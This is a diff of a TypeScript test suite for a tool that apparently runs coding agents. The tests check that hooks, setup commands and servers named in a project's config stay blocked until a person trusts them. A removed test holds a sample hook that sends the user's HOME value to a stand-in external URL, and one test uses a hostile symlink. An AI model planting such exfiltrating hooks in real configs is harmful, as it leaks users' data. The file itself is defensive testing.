@@ -1,11 +1,17 @@
 import { existsSync } from "node:fs";
-import { mkdir, rename, rm, symlink, writeFile } from "node:fs/promises";
+import { mkdir, readFile, rename, rm, symlink, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
+import { agreeIn } from "./agree.ts";
 import { baton, git, type TestProject, testProject } from "./harness.ts";
 
 const scenario = { name: "done", summary: "is done at once", otherwise: { say: "Done." } };
 const HOOK = "hooks: { after_run: [{ type: shell, command: ./notify.sh }] }";
+
+/** A project that its user has not looked at yet. */
+function untouched(agent = "", env?: Record<string, string>): Promise<TestProject> {
+  return testProject({ scenario, agent, trusted: "no", ...(env && { env }) });
+}
 
 /** Refused before anything is there or has been asked. */
 async function refusal(project: TestProject, args = ["run", "Go"]): Promise<string> {
@@ -15,98 +21,88 @@ async function refusal(project: TestProject, args = ["run", "Go"]): Promise<stri
   return stderr;
 }
 
-/** How many commands a job would be refused for. */
-async function untrusted(project: Pick<TestProject, "folder" | "env">): Promise<number> {
+/** How many things wait for the user's yes. */
+async function waiting(project: Pick<TestProject, "folder" | "env" | "trusted">): Promise<number> {
   const { stdout } = await baton(project, ["config", "check", "--json"]);
   return JSON.parse(stdout).untrusted;
 }
 
-describe("a command that came with a repository", () => {
-  it("runs only when the user trusts it", async () => {
-    const project = await testProject({ scenario, agent: HOOK });
+describe("what a project's files would do", () => {
+  it("is done only when the user has agreed to it", async () => {
+    const project = await untouched(HOOK);
     expect(
       await refusal(project),
-    ).toBe(`baton: The repository's own configuration has commands, and they run only when you trust it:
-  baton.yaml:5  hooks.after_run[0]  ./notify.sh
-Look at them, and at what they start. Then: baton trust
+    ).toBe(`baton: This project's files do more than you have agreed to on this machine:
+  baton.yaml:4  agents[coder].hooks
+      hooks:
+        after_run:
+          - type: shell
+            command: ./notify.sh
+Look at them, and trust them as they are now: baton trust
 `);
     expect(existsSync(join(project.folder, ".baton"))).toBe(false);
-    const { stdout } = await baton(project, ["trust"]);
-    expect(stdout).toContain("baton.yaml:5  hooks.after_run[0]  ./notify.sh");
+    const { stdout } = await baton(project, ["trust", "--yes"]);
+    expect(stdout).toContain("baton.yaml:4  agents[coder].hooks\n      hooks:\n");
     expect((await baton(project, ["run", "Go"])).code).toBe(0);
   });
 
-  it("may also be a hook that would send a secret of the user's to an address in the file", async () => {
-    const header = `X-Key: "\${HOME}"`;
-    const hook = `{ type: webhook, url: https://example.invalid/x, headers: { ${header} } }`;
-    const project = await testProject({ scenario, agent: `hooks: { after_run: [${hook}] }` });
-    expect(await refusal(project)).toContain("hooks.after_run[0]  https://example.invalid/x");
-    expect(await untrusted(project)).toBe(1);
+  it("needs no yes where it cannot hurt", async () => {
+    const keys =
+      "session: { context_threshold: 0.2 }\nworkspace: { branch_pattern: 'a/{jobId}' }\nnotify: { bell: true }";
+    const project = await untouched(keys);
+    expect((await baton(project, ["run", "Go"])).code).toBe(0);
+    expect(await waiting(project)).toBe(0);
   });
 
-  it("asks again when it changes, and only then", async () => {
-    const project = await testProject({ scenario, agent: HOOK });
-    await baton(project, ["trust"]);
+  it("is asked about again when a value that acts has changed, and for nothing else", async () => {
+    const project = await untouched();
     const path = join(project.folder, "baton.yaml");
     const text = (command: string) =>
-      `agents: [{ name: coder, max_turns: 9, workspace: { setup_command: ${command} } }]\n`;
+      `agents: [{ name: coder, model: one, env: { A: "1", B: "2" }, workspace: { setup_command: ${command} } }]\n`;
     await writeFile(path, text("npm ci"));
-    expect(await refusal(project)).toContain("workspace.setup_command  npm ci");
-    await baton(project, ["trust"]);
-    await writeFile(path, text("npm ci").replace("9", "8"));
-    expect(await untrusted(project)).toBe(0);
+    expect(await refusal(project)).toContain("setup_command: npm ci");
+    await baton(project, ["trust", "--yes"]);
+    await writeFile(
+      path,
+      '# Ours.\nagents:\n  - workspace: { setup_command: "npm ci" }\n    env:\n      B: "2"\n      A: "1"\n    name: coder\n    model: two\n',
+    );
+    expect(await waiting(project)).toBe(0);
     await writeFile(path, text("npm it"));
-    expect(await refusal(project)).toContain("workspace.setup_command  npm it");
+    expect(await refusal(project)).toContain("agents[coder].workspace.setup_command  (changed)");
+    const { stdout } = await baton(project, ["trust", "--yes"]);
+    expect(stdout).toContain("      - setup_command: npm ci\n      + setup_command: npm it");
+    await writeFile(path, 'agents: [{ name: coder, env: { A: "1", B: "2" } }]\n');
+    expect(await refusal(project)).toContain("agents[coder].workspace.setup_command is gone");
   });
 
-  it.each([
-    [
-      "a hook of notify",
-      "notify: { hooks: [{ type: shell, command: ./notify.sh }] }",
-      "notify.hooks[0]  ./notify.sh",
-    ],
-    ["the setup of a worktree", "workspace: { setup_command: npm ci }", "workspace.setup_command  npm ci"],
-    ["an agent program", "executable: ./baton.yaml", "executable  ./baton.yaml"],
-    [
-      "a server",
-      "mcp_servers: { docs: { command: sh, args: [-c, ./x.sh] } }",
-      "mcp_servers.docs  sh -c ./x.sh",
-    ],
-    [
-      "a script",
-      'hooks: { on_handoff: [{ type: shell, command: "one\\ntwo" }] }',
-      "hooks.on_handoff[0]\n      one\n      two\n",
-    ],
-  ])("can be %s", async (_what, agent, shown) => {
-    expect(await refusal(await testProject({ scenario, agent }))).toContain(shown);
+  it("includes the scripts that it names", async () => {
+    const project = await untouched(HOOK);
+    const script = join(project.folder, "notify.sh");
+    await writeFile(script, "#!/bin/sh\ntouch one\n", { mode: 0o755 });
+    const { stdout } = await baton(project, ["trust", "--yes"]);
+    expect(stdout).toContain(
+      "notify.sh  named by agents[coder].hooks, 2 lines\n      #!/bin/sh\n      touch one",
+    );
+    expect(await waiting(project)).toBe(0);
+    await writeFile(script, "#!/bin/sh\ntouch two\n");
+    expect(await refusal(project)).toContain("notify.sh, named by agents[coder].hooks, has changed");
+    expect((await baton(project, ["trust", "--yes"])).stdout).toContain(
+      "      - touch one\n      + touch two",
+    );
+    expect(await waiting(project)).toBe(0);
   });
 
-  it("can be in the file of an agent, also where baton.yaml is the user's own", async () => {
-    const project = await testProject({ scenario });
+  it("can be in the file of an agent", async () => {
+    const project = await untouched();
     await mkdir(join(project.folder, "agents"));
     await writeFile(join(project.folder, "agents/coder.yaml"), `name: coder\n${HOOK}\n`);
-    await git(project.folder, "add", "agents");
-    await git(project.folder, "rm", "-q", "--cached", "baton.yaml");
     await writeFile(join(project.folder, "baton.yaml"), "agents: [{ path: agents/coder.yaml }]\n");
-    expect(await refusal(project)).toContain("agents/coder.yaml:2  hooks.after_run[0]");
+    expect(await refusal(project)).toContain("agents/coder.yaml:2  hooks\n");
+    await baton(project, ["trust", "--yes"]);
+    expect(await waiting(project)).toBe(0);
   });
 
-  it("is found behind a link too", async () => {
-    const project = await testProject({ scenario, agent: HOOK });
-    await git(project.folder, "mv", "baton.yaml", "theirs.yaml");
-    await symlink("theirs.yaml", join(project.folder, "baton.yaml"));
-    expect(await refusal(project)).toContain("baton.yaml:5  hooks.after_run[0]");
-  });
-
-  it("counts as such where git cannot be asked", async () => {
-    const project = await testProject({ scenario, agent: HOOK });
-    await git(project.folder, "rm", "-q", "--cached", "baton.yaml");
-    expect(await untrusted(project)).toBe(0);
-    const withoutGit = { ...project.env, PATH: join(project.folder, "nothing") };
-    expect(await untrusted({ ...project, env: withoutGit })).toBe(1);
-  });
-
-  it("is not run by a job that is resumed or continued either", async () => {
+  it("is not done by a job that is resumed or continued either", async () => {
     const steps = [{ call: { tool: "Bash", input: { command: "true" } } }, { say: "Done." }];
     const looking = { name: "looking", summary: "looks, and is done", steps };
     const project = await testProject({ scenario: looking, agent: "limits: { turns: 1 }" });
@@ -120,15 +116,15 @@ Look at them, and at what they start. Then: baton trust
       ["continue", "notes.md", "--yes"],
     ];
     for (const args of commands) {
-      const { code, stderr } = await baton(project, args);
+      const { code, stderr } = await baton({ ...project, trusted: "no" }, args);
       expect(code).toBe(2);
-      expect(stderr).toContain("Then: baton trust");
+      expect(stderr).toContain("trust them as they are now: baton trust");
     }
     expect(project.simulator.requests).toHaveLength(before);
   });
 
-  it("of another agent does not stop this one", async () => {
-    const project = await testProject({ scenario });
+  it("holds nobody up who runs another agent", async () => {
+    const project = await untouched();
     const other = `agents:\n  - { name: coder, model: claude-sonnet-4-5 }\n  - name: other\n    ${HOOK}\n`;
     await writeFile(join(project.folder, "baton.yaml"), other);
     expect(await refusal(project, ["run", "other", "Go"])).toContain("baton trust");
@@ -137,59 +133,91 @@ Look at them, and at what they start. Then: baton trust
 });
 
 describe("what is the user's own", () => {
-  it("is a file that git does not track", async () => {
-    const project = await testProject({ scenario, agent: HOOK });
-    await git(project.folder, "rm", "-q", "--cached", "baton.yaml");
-    expect(await untrusted(project)).toBe(0);
-  });
-
   it("is the file for all projects", async () => {
-    const project = await testProject({ scenario });
+    const project = await untouched();
     const folder = join(project.env.HOME ?? "", ".config/baton");
     await mkdir(folder, { recursive: true });
     await writeFile(join(folder, "config.yaml"), `defaults:\n  ${HOOK}\n`);
-    expect(await untrusted(project)).toBe(0);
+    expect(await waiting(project)).toBe(0);
+  });
+
+  it("is the file that baton init wrote", async () => {
+    const project = await untouched();
+    await rm(join(project.folder, "baton.yaml"));
+    expect((await baton(project, ["init", "--permission-mode", "bypassPermissions"])).code).toBe(0);
+    expect(await waiting(project)).toBe(0);
+    expect((await baton(project, ["run", "Go"])).code).toBe(0);
   });
 });
 
 describe("baton trust", () => {
+  it("asks on a terminal only, and says what to type elsewhere", async () => {
+    const project = await untouched(HOOK);
+    const { code, stdout, stderr } = await baton(project, ["trust"]);
+    expect(code).toBe(2);
+    expect(stdout).toContain("What this project's files would do");
+    expect(stderr).toContain("If you have looked at all of it: baton trust --yes");
+    expect(await waiting(project)).toBe(1);
+  });
+
+  it("is refused within a job", async () => {
+    const project = await untouched(HOOK);
+    const env = { ...project.env, BATON_JOB_ID: "job-1" };
+    const { code, stderr } = await baton({ ...project, env }, ["trust", "--yes"]);
+    expect(code).toBe(2);
+    expect(stderr).toContain("Only a person can trust a project");
+    expect(await waiting(project)).toBe(1);
+  });
+
   it("lists what is trusted, and takes it back", async () => {
-    const project = await testProject({ scenario, agent: HOOK });
-    expect((await baton(project, ["trust", "--list"])).stdout).toBe("You trust no repository yet.\n");
-    await baton(project, ["trust"]);
+    const project = await untouched(HOOK);
+    expect((await baton(project, ["trust", "--list"])).stdout).toBe("You have trusted nothing yet.\n");
+    await baton(project, ["trust", "--yes"]);
     const listed = JSON.parse((await baton(project, ["trust", "--list", "--json"])).stdout);
-    expect(listed).toMatchObject([{ file: join(project.folder, "baton.yaml"), commands: 1 }]);
+    expect(listed).toMatchObject([
+      { file: join(project.folder, "baton.yaml"), keys: ["agents[coder].hooks"] },
+    ]);
     await writeFile(join(project.folder, "baton.yaml"), "broken: [\n");
     expect((await baton(project, ["trust", "--remove"])).stdout).toBe("baton.yaml is no longer trusted.\n");
-    expect((await baton(project, ["trust", "--list"])).stdout).toBe("You trust no repository yet.\n");
+    expect((await baton(project, ["trust", "--list"])).stdout).toBe("You have trusted nothing yet.\n");
     expect((await baton(project, ["trust", "--remove"])).stdout).toBe("Nothing here was trusted.\n");
   });
 
   it("says so where there is nothing to trust", async () => {
-    const project = await testProject({ scenario });
+    const project = await untouched();
     expect((await baton(project, ["trust"])).stdout).toContain("There is nothing to trust");
     expect(existsSync(join(project.env.HOME ?? "", ".local"))).toBe(false);
   });
 
   it("names the file that it is to be called with, where that is not the one at hand", async () => {
-    const project = await testProject({ scenario, agent: HOOK });
+    const project = await untouched(HOOK);
     await rename(join(project.folder, "baton.yaml"), join(project.folder, "other.yaml"));
-    await git(project.folder, "add", "-A");
     expect(await refusal(project, ["run", "Go", "--config", "other.yaml"])).toContain(
-      "Then: baton trust --config other.yaml\n",
+      ": baton trust --config other.yaml\n",
     );
-    await baton(project, ["trust", "--config", "other.yaml"]);
+    await baton(project, ["trust", "--config", "other.yaml", "--yes"]);
     const { stdout } = await baton(project, ["config", "check", "other.yaml", "--json"]);
     expect(JSON.parse(stdout).untrusted).toBe(0);
   });
 
   it("does not take what it cannot read for trust", async () => {
-    const project = await testProject({ scenario, agent: HOOK });
-    await baton(project, ["trust"]);
+    const project = await untouched(HOOK);
+    await baton(project, ["trust", "--yes"]);
     const record = join(project.env.HOME ?? "", ".local/state/baton/trusted.json");
     await writeFile(record, "[]");
     expect(await refusal(project)).toContain(`${record} should say what you trust`);
+    expect(await readFile(record, "utf8")).toBe("[]");
     await rm(record);
     expect(await refusal(project)).toContain("baton trust");
+  });
+
+  it("does not take a link for the file that it leads to", async () => {
+    const trusted = await untouched(HOOK);
+    agreeIn({ folder: trusted.folder, env: trusted.env });
+    const hostile = await untouched(HOOK);
+    await rm(join(hostile.folder, "baton.yaml"));
+    await symlink(join(trusted.folder, "baton.yaml"), join(hostile.folder, "baton.yaml"));
+    await git(hostile.folder, "add", "-A");
+    expect(await refusal({ ...hostile, env: trusted.env })).toContain("agents[coder].hooks");
   });
 });
